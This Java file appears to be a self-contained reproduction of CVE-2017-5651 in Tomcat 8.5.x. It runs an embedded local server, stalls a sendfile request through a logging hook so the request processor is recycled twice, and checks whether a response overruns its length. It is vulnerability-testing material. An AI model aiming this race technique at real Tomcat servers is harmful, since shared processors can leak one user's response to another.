package io.pageconsistency.recipes;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;

import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;

import org.apache.catalina.Context;
import org.apache.catalina.startup.Tomcat;

/**
 * CVE-2017-5651 over a real socket. The poller sends a file and closes its connection before the thread of the request continues.
 * Then Tomcat 8.5.0 to 8.5.12 pushes the processor of that request twice, so two later requests share it.
 */
final class TomcatServer {
    /** More than one write to a socket can take. */
    private static final int LENGTH = 32 << 20;
    private static final int REQUESTS = 100;

    private TomcatServer() {
    }

    private static final class Sender extends HttpServlet {
        private static final long serialVersionUID = 1;
        private final String file;

        Sender(Path file) {
            this.file = file.toString();
        }

        @Override
        protected void doGet(HttpServletRequest request, HttpServletResponse response) throws IOException {
            if (request.getRequestURI().equals("/file")) {
                response.setContentLength(LENGTH);
                request.setAttribute("org.apache.tomcat.sendfile.filename", file);
                request.setAttribute("org.apache.tomcat.sendfile.start", 0L);
                request.setAttribute("org.apache.tomcat.sendfile.end", (long) LENGTH);
            } else {
                response.getWriter().println("text");
            }
        }
    }

    /** Holds the thread of the request at the point where it has left the file to the poller. */
    private static final class HoldUp extends Handler {
        final CountDownLatch sent = new CountDownLatch(1);

        @Override
        public void publish(LogRecord record) {
            if (record.getMessage().contains("State out: [SENDFILE]")) {
                try {
                    System.out.println("SENT FIRST " + sent.await(1, TimeUnit.MINUTES));
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            }
        }

        @Override
        public void flush() {
            // Buffers nothing.
        }

        @Override
        public void close() {
            // Has nothing to close.
        }
    }

    public static void main(String[] arguments) throws Exception {
        Path directory = Files.createTempDirectory("tomcat");
        Path file = Files.write(directory.resolve("file"), new byte[LENGTH]);
        Logger logger = Logger.getLogger("org.apache.coyote.http11.Http11Processor");
        HoldUp holdUp = new HoldUp();
        logger.addHandler(holdUp);
        logger.setUseParentHandlers(false);
        Tomcat tomcat = new Tomcat();
        tomcat.setBaseDir(directory.toString());
        tomcat.setPort(0);
        tomcat.getConnector();
        Context context = tomcat.addContext("", directory.toString());
        Tomcat.addServlet(context, "sender", new Sender(file));
        context.addServletMappingDecoded("/*", "sender");
        tomcat.start();
        int port = tomcat.getConnector().getLocalPort();
        for (int i = 0; i < REQUESTS; i++) {
            get(port, "/text");
        }
        logger.setLevel(Level.FINE);
        long length = get(port, "/file");
        holdUp.sent.countDown();
        System.out.println("ANSWER " + (length > LENGTH));
        tomcat.stop();
        Files.delete(file);
        Outcome.print();
    }

    private static long get(int port, String path) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.getOutputStream().write(("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            InputStream in = socket.getInputStream();
            byte[] bytes = new byte[1 << 16];
            long length = 0;
            for (int read = in.read(bytes); read > 0; read = in.read(bytes)) {
                length += read;
            }
            return length;
        }
    }
}
